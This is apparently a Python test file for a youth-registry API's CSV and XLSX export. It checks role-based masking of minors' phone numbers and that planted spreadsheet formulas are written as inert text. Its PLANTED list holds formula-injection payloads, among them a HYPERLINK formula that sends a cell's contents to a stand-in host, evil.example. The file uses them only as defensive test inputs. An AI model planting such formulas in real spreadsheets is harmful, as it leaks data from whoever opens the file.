"""Exports keep the API's rules cell by cell (field rules, the minors rule, the org's
visibility) and write inert text: a planted formula never runs on a leader's computer."""

from __future__ import annotations

import base64
import csv
import io
from datetime import date

from openpyxl import load_workbook

from tests.helpers import accept_invitations, add_user, add_youth, gid, standard_tree

ADD = "mutation($n: String!, $m: String!) { addYouthToMyList(name: $n, mobile: $m) { id } }"
EXPORT = """query($f: ExportFormat!, $o: ID) {
  exportYouth(format: $f, under: $o) { filename contentBase64 rows } }"""
PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A3,"点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
]


def xlsx_cells(content: str) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(base64.b64decode(content))).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def csv_rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(base64.b64decode(content).decode("utf-8-sig"))))


async def test_planted_formulas_come_out_as_text_in_xlsx_and_csv(api) -> None:
    tree = await standard_tree(api.services)
    cadre = await add_user(api.services, "c1", org=tree["A1"], roles=("cadre",))
    t = await api.token_for(cadre.id)
    for i, name in enumerate(PLANTED):  # accepted on entry: names are free text
        assert (await api.gql(ADD, {"n": name, "m": f"1350000000{i}"}, token=t)).data
    await accept_invitations(api.services, cadre)
    city = await add_user(api.services, "cityA", org=tree["A"], roles=("city_admin",))
    for token, under in ((t, None), (await api.token_for(city.id), gid("Org", tree["A"].id))):
        x = (await api.gql(EXPORT, {"f": "XLSX", "o": under}, token=token)).data["exportYouth"]
        cells = xlsx_cells(x["contentBase64"])
        assert {kind for row in cells for value, kind in row if value is not None} == {"s"}
        assert sorted(row[0][0] for row in cells[1:]) == sorted("'" + n for n in PLANTED)
        c = (await api.gql(EXPORT, {"f": "CSV", "o": under}, token=token)).data["exportYouth"]
        assert sorted(row[0] for row in csv_rows(c["contentBase64"])[1:]) == sorted(
            "'" + n for n in PLANTED
        )


async def test_a_control_character_from_older_data_does_not_fail_the_xlsx(api) -> None:
    tree = await standard_tree(api.services)
    await add_youth(api.services, "旧\x0b数据", "13600005555", tree["A1"])  # loaded directly
    city = await add_user(api.services, "cityA", org=tree["A"], roles=("city_admin",))
    x = (
        await api.gql(
            EXPORT, {"f": "XLSX", "o": gid("Org", tree["A"].id)}, token=await api.token_for(city.id)
        )
    ).data["exportYouth"]
    assert [row[0] for row in xlsx_cells(x["contentBase64"])[1:]] == [("旧数据", "s")]


async def test_export_cells_equal_what_the_api_shows(api) -> None:
    """A minor's number is masked in the file exactly where `youth(id)` masks it."""
    tree = await standard_tree(api.services)
    adult = await add_youth(api.services, "成年", "13600001111", tree["A1x"])
    minor = await add_youth(
        api.services, "未成年", "13600002222", tree["A1x"], birth_date=date(2012, 3, 1)
    )
    cadre = await add_user(api.services, "c1", org=tree["A1x"], roles=("cadre",))
    ct = await api.token_for(cadre.id)
    assert (await api.gql(ADD, {"n": "x", "m": "13600002222"}, token=ct)).data
    prov = await add_user(api.services, "prov", org=tree["P"], roles=("province_admin",))
    county = await add_user(api.services, "cty", org=tree["A1"], roles=("county_admin",))
    shown = "query($id: ID!) { youth(id: $id) { name mobile } }"
    for token in (await api.token_for(prov.id), await api.token_for(county.id)):
        api_view = {
            y.id: (await api.gql(shown, {"id": gid("Youth", y.id)}, token=token)).data["youth"]
            for y in (adult, minor)
        }
        for fmt in ("CSV", "XLSX"):
            f = (
                await api.gql(EXPORT, {"f": fmt, "o": gid("Org", tree["A1"].id)}, token=token)
            ).data["exportYouth"]
            rows = (
                csv_rows(f["contentBase64"])
                if fmt == "CSV"
                else [[v for v, _ in row] for row in xlsx_cells(f["contentBase64"])]
            )
            assert sorted((r[0], r[1]) for r in rows[1:]) == sorted(
                (v["name"], v["mobile"]) for v in api_view.values()
            )
    assert api_view[minor.id]["mobile"] == "136****2222"  # the county admin: masked
    # The province admin sees the adult whole but not the minor (minors rule), in the file too.
    prov_file = (
        await api.gql(
            EXPORT, {"f": "CSV", "o": gid("Org", tree["P"].id)}, token=await api.token_for(prov.id)
        )
    ).data["exportYouth"]
    assert sorted(r[:2] for r in csv_rows(prov_file["contentBase64"])[1:]) == [
        ["成年", "13600001111"],
        ["未成年", "136****2222"],
    ]
    # An invitation not yet accepted gives the cadre nothing: the minor is not on their list.
    mine = (await api.gql(EXPORT, {"f": "CSV"}, token=ct)).data["exportYouth"]
    assert mine["rows"] == 0
    await accept_invitations(api.services, cadre)
    mine = (await api.gql(EXPORT, {"f": "CSV"}, token=ct)).data["exportYouth"]
    assert [r[:2] for r in csv_rows(mine["contentBase64"])[1:]] == [["未成年", "13600002222"]]


async def test_a_leader_who_is_also_a_cadre_gets_their_own_youth_whole_under_a_subtree(api) -> None:
    tree = await standard_tree(api.services)
    boss = await add_user(api.services, "boss", org=tree["A1"], roles=("cadre", "county_admin"))
    t = await api.token_for(boss.id)
    await add_youth(api.services, "别人的", "13600003333", tree["A1x"])
    assert (await api.gql(ADD, {"n": "我的", "m": "13600004444"}, token=t)).data
    await accept_invitations(api.services, boss)
    f = (await api.gql(EXPORT, {"f": "CSV", "o": gid("Org", tree["A1"].id)}, token=t)).data
    rows = sorted(r[:2] for r in csv_rows(f["exportYouth"]["contentBase64"])[1:])
    assert rows == [["别人的", "136****3333"], ["我的", "13600004444"]]
